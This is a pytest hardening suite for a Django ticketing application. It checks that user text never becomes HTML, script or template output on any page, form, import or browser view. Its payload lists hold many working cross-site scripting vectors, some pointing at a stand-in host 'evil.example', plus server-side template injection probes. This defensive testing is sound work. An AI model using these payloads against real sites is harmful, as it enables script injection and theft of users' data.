"""What people write never becomes markup, script or template: every text of every type, every page that shows it."""

import json
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from playwright.sync_api import Page

from stellwerk.kernel.activity.attachments.services import attach
from stellwerk.kernel.activity.comments.services import comment
from stellwerk.kernel.custom_fields.models import CustomField
from stellwerk.kernel.identity.party import Party
from stellwerk.kernel.identity.person import Person
from stellwerk.kernel.identity.tokens import issue_token
from stellwerk.kernel.model.actor import SYSTEM
from stellwerk.kernel.model.declaration import RecordType
from stellwerk.kernel.model.record import Record
from stellwerk.kernel.model.roles import Role
from stellwerk.kernel.testing.families import for_crawls
from stellwerk.kernel.testing.fixtures import grant, make_person
from stellwerk.kernel.testing.samples import sample_values
from stellwerk.kernel.write.services import change, create
from stellwerk.processes.incidents.incident import Incident
from stellwerk.web.models import SavedView
from tests.end_to_end.conftest import OpenAs, open_as, stage
from tests.hardening.crawling import crawl
from tests.hardening.test_canaries import addresses

__all__ = ["open_as", "stage"]  # fixtures

pytestmark = pytest.mark.django_db

WIRE = "x7wire"
"""Stands as a tag's or an attribute's name in every payload: where one is found, the payload has become markup."""
MARKUP = [
    "<x7wire>",
    '"><x7wire>',
    "'><x7wire>",
    '"\'><x7wire x="',
    '" x7wire="',
    "' x7wire='",
    " x7wire=1 ",
    "` x7wire=`",
    "</title><x7wire>",
    "</textarea><x7wire>",
    "</script><x7wire>",
    "</style><x7wire>",
    "</noscript><x7wire>",
    "</template><x7wire>",
    "</option></select><x7wire>",
    "--><x7wire>",
    "--!><x7wire>",
    "]]><x7wire>",
    "<!--><x7wire>",
    "<!-- --!><x7wire>",
    "<![CDATA[<x7wire>]]>",
    "<?x7wire ?><x7wire>",
    "<script x7wire>window.__xss=1</script>",
    "<script/x7wire>window.__xss=1</script>",
    "<ScRiPt x7wire>window.__xss=1</sCrIpT>",
    "<<script x7wire>window.__xss=1//<</script>",
    "<scr<script>ipt x7wire>window.__xss=1</script>",
    "<img x7wire src=x onerror=window.__xss=1>",
    "<img/src=x/x7wire/onerror=window.__xss=1>",
    '<img src="x`<x7wire>"` onerror=window.__xss=1>',
    "<svg x7wire onload=window.__xss=1>",
    "<svg><animate x7wire onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><style><img x7wire src=x onerror=window.__xss=1></style>",
    '<svg><a x7wire xlink:href="javascript:window.__xss=1"><text>x</text></a>',
    '<math x7wire><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
    '<math><mi x7wire xlink:href="data:x,<script>window.__xss=1</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img x7wire src onerror="window.__xss=1">',
    "<body x7wire onload=window.__xss=1>",
    "<details x7wire open ontoggle=window.__xss=1>",
    "<video x7wire><source onerror=window.__xss=1></video>",
    "<input x7wire autofocus onfocus=window.__xss=1>",
    "<select x7wire autofocus onfocus=window.__xss=1>",
    "<marquee x7wire onstart=window.__xss=1>",
    "<iframe x7wire srcdoc='<script>window.__xss=1</script>'></iframe>",
    "<iframe x7wire src=javascript:window.__xss=1></iframe>",
    "<object x7wire data=javascript:window.__xss=1></object>",
    "<embed x7wire src=javascript:window.__xss=1>",
    "<base x7wire href=//evil.example/>",
    '<meta x7wire http-equiv=refresh content="0;url=//evil.example/">',
    "<link x7wire rel=stylesheet href=//evil.example/x.css>",
    "<style x7wire>@import '//evil.example/x.css';</style>",
    "<a x7wire href=javascript:window.__xss=1>x</a>",
    "<a x7wire href='java\tscript:window.__xss=1'>x</a>",
    "<a x7wire href=' &#106;avascript:window.__xss=1'>x</a>",
    "<form x7wire action=//evil.example/><button>x</button></form>",
    "<button x7wire form=x formaction=javascript:window.__xss=1>x</button>",
    '<div x7wire hx-get="//evil.example/" hx-trigger="load"></div>',
    '<div x7wire hx-on:load="window.__xss=1"></div>',
    '<div x7wire x-data x-init="window.__xss=1"></div>',
    "<template x7wire x-if=1><x7wire></template>",
    '<x7wire/x="\'>"',
    "&lt;x7wire&gt;",
    "&#60;x7wire&#62;",
    "\\u003cx7wire\\u003e",
    "\\x3cx7wire\\x3e",
    "%3Cx7wire%3E",
    "\uff1cx7wire\uff1e",
    "+ADw-x7wire+AD4-",
    "\u2028<x7wire>\u2029",
    "<\u200bx7wire><x7wire\u200b>",
    "[x](javascript:window.__xss=1)",
    "[x](  JaVaScRiPt&colon;window.__xss=1)",
    "[x](data:text/html,<x7wire>)",
    "[x](vbscript:x7wire)",
    '[x](https://e.example "x" x7wire="x")',
    "![x](javascript:window.__xss=1)",
    "![x](https://evil.example/pixel.png)",
    '<https://e.example/"x7wire="x>',
    'https://e.example/"><x7wire>',
    "[x]: javascript:window.__xss=1\n[x]",
    '```"><x7wire>\n<x7wire>\n```',
    '| <x7wire> | x |\n|--|--|\n| "><x7wire> | x |',
    '@gus"><x7wire> INC-000001"><x7wire>',
]
COMPUTED = "13382117"
TEMPLATES = [
    "{{7*1911731}}",
    "{{ 7|add:13382110 }}",
    "{% widthratio 1911731 1 7 %}",
    "{% include 'x' %}{% debug %}",
    "{{request.user.password}}",
    "{{7*1911731}}}}",
    "${7*1911731}",
    "#{7*1911731}",
    "<%= 7*1911731 %>",
    "@(7*1911731)",
    "{{= 7*1911731 }}",
    "{7*1911731}",
    "$[[7*1911731]]",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{0.__class__.__init__.__globals__}",
    "%(settings)s %s %d %n",
    "{title} {requester} {{ title }}",
    "[[${7*1911731}]]",
    "*{7*1911731}",
    "{php}echo 7*1911731;{/php}",
]
PAYLOADS = [*MARKUP, *TEMPLATES]
AT_ONCE = "\n\n".join(PAYLOADS)
SCHEMES = ("http:", "https:", "mailto:", "tel:")


class Markup(HTMLParser):
    """Lists what of a page could only come from a payload, or would run one."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.within = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.within = tag if dict(attrs).get("type") != "application/json" else ""
        names = [name for name, _value in attrs]
        if WIRE in tag or any(WIRE in name or name.startswith("on") or name == "srcdoc" for name in names):
            self.faults.append(str(self.get_starttag_text()))
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "hx-get"):
                scheme, colon, _rest = (value or "").strip().lower().partition(":")
                if colon and "/" not in scheme and "?" not in scheme and f"{scheme}:" not in SCHEMES:
                    self.faults.append(str(self.get_starttag_text()))

    def handle_data(self, data: str) -> None:
        if self.within in ("script", "style") and WIRE in data:
            self.faults.append(f"in a {self.within}: {data[:200]}")

    def handle_endtag(self, tag: str) -> None:
        self.within = ""


def faults_in(response: Any, text: str) -> list[str]:
    """List the payloads that a browser would take for more than text."""
    headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    faults = [f"worked out: {text[text.index(COMPUTED) - 40 :][:80]}"] if COMPUTED in text else []
    if headers.get("Content-Type", "").startswith("text/html"):
        markup = Markup()
        markup.feed(text)
        markup.close()
        faults += markup.faults
    return faults


class Looked:
    """What was found on the pages that were looked at, and how many of them showed a payload."""

    def __init__(self) -> None:
        self.faults: dict[str, list[str]] = {}
        self.showing: list[str] = []

    def __call__(self, path: str, response: Any, text: str) -> None:
        if found := faults_in(response, text):
            self.faults[path] = found[:3]
        if WIRE in text and response.headers.get("Content-Type", "").startswith("text/html"):
            self.showing.append(path)


def in_pieces(size: int) -> Iterator[str]:
    """Join as many payloads as a field of that size takes, until all have been given."""
    piece = ""
    for payload in PAYLOADS:
        if piece and len(piece) + len(payload) >= size:
            yield piece
            piece = ""
        piece = f"{piece} {payload}"[: size - 1].strip()
    yield piece


def texts_of(record_type: RecordType) -> list["models.Field[Any, Any]"]:
    """List the fields of the type that hold free text."""
    fields = [record_type.field(name) for name in record_type.editable_fields]
    return [f for f in fields if isinstance(f, models.CharField | models.TextField) and not f.choices]


def poisoned(record_type: RecordType, piece: str, **given: Any) -> Record:
    """Create a record with payloads in all texts; what its rules refuse stays as the sample has it."""
    values = {**sample_values(record_type), **given}
    for field in texts_of(record_type):
        text = AT_ONCE if isinstance(field, models.TextField) else piece[: field.max_length]
        values[field.name] = {"email": '"><x7wire>@e.example'}.get(field.name, text.strip())
    plain = sample_values(record_type)
    for _attempt in range(5):
        try:
            return create(record_type.model, values, by=SYSTEM)
        except ValidationError as refusal:
            for name in refusal.message_dict:
                values = {**values, name: plain.get(name)} if name in plain else _without(values, name)
    raise AssertionError(f"{record_type.key} takes no texts")


def _without(values: dict[str, Any], name: str) -> dict[str, Any]:
    assert name in values
    return {key: value for key, value in values.items() if key != name}


@pytest.fixture
def ticket(maria: Person, gus: Person, centre: Party) -> Incident:
    """Gus's ticket, with payloads in everything that can stand in and beside it."""
    for number, piece in enumerate(in_pieces(240)):
        field = {"target": "incident", "title": piece, "help": piece, "name": f"field{number}"}
        shown = {"shown_to_requesters": True, "type": "choice", "choices": [piece[:50], AT_ONCE]}
        create(CustomField, {**field, **shown}, by=SYSTEM)
        SavedView.objects.create(kind="incident", name=piece[:80], owner=maria, shared=not number)
    issue_token(maria, MARKUP[1])
    gus = change(gus, {"title": " ".join(MARKUP[:8])}, by=SYSTEM)
    own = make_person(f"Petra {' '.join(MARKUP[8:16])}", centre)
    grant(own, Role.AGENT, centre)
    custom = {"custom.field0": AT_ONCE}
    given = {"title": " ".join(MARKUP[:7]), "description": AT_ONCE, "requester": gus, "party": centre}
    made = create(Incident, {**given, **custom, "external_reference": MARKUP[1]}, by=SYSTEM)
    change(made, {"title": " ".join(MARKUP[7:14]), "assigned_to": own}, by=SYSTEM, reason=AT_ONCE)
    for text in (AT_ONCE, *MARKUP[-12:]):
        comment(made, text, by=own)
        comment(made, text, by=gus)
    for name in MARKUP[:16]:
        attach(made, ContentFile(name.encode()), f"{name}.txt", by=gus)
    return Incident.objects.get(pk=made.pk)


@pytest.mark.slow
def test_no_text_of_any_type_becomes_markup_anywhere(
    ticket: Incident, root: Person, gus: Person, centre: Party
) -> None:
    records: list[Record] = [ticket]
    for record_type in for_crawls():
        if record_type.model is CustomField:
            continue
        own = {"party": centre} if "party" in record_type.editable_fields else {}
        pieces = list(in_pieces(240))[: None if record_type.model is Person else 1]
        made = [poisoned(record_type, piece, **own) for piece in pieces]
        records.append(made[0])
    looked = Looked()
    for person in (root, gus):
        crawl(person, addresses(records), search=WIRE, look=looked)
    assert looked.faults == {}
    assert len(looked.showing) > 100
    shown = set(looked.showing)
    page = f"/records/{ticket.reference}/"
    for path in (
        page,
        f"{page}history/",
        f"{page}edit/",
        "/incidents/",
        f"/palette/?q={WIRE}",
        f"/search/?q={WIRE}",
    ):
        assert path in shown
    for path in (
        f"/options/people/?q={WIRE}",
        "/notifications/",
        f"/portal/tickets/{ticket.reference}/",
        "/account/tokens/",
    ):
        assert path in shown


ECHOING = [
    "/search/?q={}",
    "/palette/?q={}",
    "/palette/?record={}",
    "/lookup/?q={}",
    "/incidents/?q={}",
    "/incidents/?status={}",
    "/incidents/?ordering={}",
    "/incidents/?{}=1",
    "/incidents/?view={}",
    "/incidents/?requester={}",
    "/incidents/?created_at__gte={}",
    "/incidents/?columns={}",
    "/incidents/export/?format={}",
    "/incidents/new/?title={}&description={}&requester={}",
    "/options/people/?q={}&name={}&without={}&as=boxes",
    "/desk/?kind={}&days={}&until={}&party={}",
    "/access/?person={}&record={}",
    "/portal/services/?q={}",
    "/portal/tickets/?show={}",
    "/portal/new/incident/?title={}&service={}",
    "/account/login/?next={}",
    "/account/tokens/?for={}",
    "/api/v1/docs?of={}",
    "/{}/",
    "/records/{}/",
]


@pytest.mark.parametrize("path", ECHOING)
def test_nothing_of_an_address_becomes_markup(path: str, maria: Person, client: Client) -> None:
    if "login" not in path:
        client.force_login(maria)
    for payload in (*MARKUP[:9], AT_ONCE[:400], *TEMPLATES[:2]):
        quoted = "".join(f"%{octet:02x}" for octet in payload.replace("/", "").encode())
        answer = client.get(path.replace("{}", quoted))
        assert answer.status_code < 500
        streamed = b"".join(answer.streaming_content) if answer.streaming else answer.content
        assert faults_in(answer, streamed.decode()) == []


STATUS = {"say": 404, "%3Cx7wire%3E": 404, "reset": 200}
"""Where no such step exists, and where known and unknown addresses are answered alike."""


def test_what_is_refused_is_told_as_text(ticket: Incident, maria: Person, client: Client) -> None:
    client.force_login(maria)
    page = f"/records/{ticket.reference}/"
    every = " ".join(MARKUP[:20])
    posts: list[tuple[str, dict[str, Any]]] = [
        ("/incidents/new/", {"title": "", "requester": every, "impact": every, "custom.field0": every}),
        (f"{page}edit/", {"title": every * 9, "requester": every, "version": "1", "impact": every}),
        (f"{page}fields/title/", {"title": every * 9, "version": "1"}),
        (f"{page}fields/impact/", {"impact": every, "version": every}),
        (f"{page}say/", {"kind": every, "body": every, "step": every}),
        (f"{page}links/", {"target": every, "relation": every}),
        (f"{page}shares/", {"party": every, "person": every, "capacity": every}),
        (f"{page}watchers/", {"person": every}),
        (f"/tickets/{ticket.reference}/merge/", {"into": every}),
        (f"/records/{ticket.reference}/steps/{'%3Cx7wire%3E'}/", {"version": "1"}),
        ("/incidents/bulk/", {"action": every, "selected": every}),
        ("/incidents/bulk/", {"action": "field.impact", "selected": ticket.pk, "apply": "1", "value-impact": every}),
        ("/incidents/views/", {"name": every * 9, "query": every}),
        ("/account/", {"time_zone": every, "language": every}),
        ("/account/tokens/", {"name": every * 9, "scopes": every, "days": every}),
        ("/account/password/reset/", {"email": every}),
    ]  # fmt: skip
    for path, body in posts:
        answer = client.post(path, body)
        # What is refused is refused for a value of a field that the form has.
        assert answer.status_code == STATUS.get(path.split("/")[-2], 422), path
        assert faults_in(answer, answer.content.decode()) == [], path


@pytest.mark.parametrize("ending", ["csv", "json"])
def test_an_import_shows_what_a_file_says_as_text(ending: str, maria: Person, client: Client) -> None:
    client.force_login(maria)
    cells = {"title": AT_ONCE[:240], "requester": MARKUP[1], "impact": MARKUP[2], MARKUP[0]: MARKUP[1]}
    quoted = {name: value.replace('"', '""') for name, value in cells.items()}
    files = {
        "csv": "\n".join(",".join(f'"{each}"' for each in row) for row in (quoted, quoted.values())),
        "json": json.dumps([cells, {"title": MARKUP[1]}]),
    }
    for name in (f"x.{ending}", f"{MARKUP[1]}.{ending}"):
        file = SimpleUploadedFile(name, files[ending].encode())
        answer = client.post("/incidents/import/", {"file": file, "key": "reference"}, follow=True)
        assert answer.status_code == 200  # the page that asks what the unknown column is
        assert WIRE in answer.content.decode()
        assert faults_in(answer, answer.content.decode()) == []


def test_a_browser_that_is_known_by_a_payload_is_listed_as_text(maria: Person) -> None:
    browser = Client(headers={"user-agent": " ".join(MARKUP[:20]), "referer": MARKUP[1]})
    maria.set_password("a long enough secret")
    maria.save()
    browser.post("/account/login/", {"login": "maria", "password": "a long enough secret"})
    answer = browser.get("/account/sessions/")
    assert (answer.status_code, faults_in(answer, answer.content.decode())) == (200, [])


FOUND = f"""() => [...document.querySelectorAll('*')].filter(
  (e) => e.localName.includes('{WIRE}') || [...e.attributes].some((a) => a.name.includes('{WIRE}') || /^on/.test(a.name))
).map((e) => e.outerHTML.slice(0, 200)).concat(window.__xss ? ['it ran'] : [])"""


@pytest.mark.django_db(transaction=True)
def test_a_browser_finds_no_markup_and_runs_nothing(
    ticket: Incident, maria: Person, gus: Person, open_as: OpenAs
) -> None:
    page = open_as(maria, "/incidents/")
    for path in (
        "/incidents/",
        f"/search/?q={WIRE}",
        f"/records/{ticket.reference}/",
        "/notifications/",
        "/desk/",
    ):
        page.goto(path)
        assert page.evaluate(FOUND) == []
    page.goto(f"/records/{ticket.reference}/")
    page.locator("textarea[name=body]").first.click()
    page.keyboard.type("@pet", delay=30)
    page.locator("[role=option]", has_text="Petra").first.wait_for()
    assert page.evaluate(FOUND) == []
    page.keyboard.press("Escape")
    page.keyboard.press("Control+k")
    page.keyboard.type(WIRE, delay=10)
    page.locator("dialog[open] a, [role=dialog] a", has_text=WIRE).first.wait_for()
    assert page.evaluate(FOUND) == []
    portal = open_as(gus, f"/portal/tickets/{ticket.reference}/")
    assert portal.evaluate(FOUND) == []
    assert WIRE in visible(portal)


def visible(page: Page) -> str:
    return page.locator("main").inner_text()
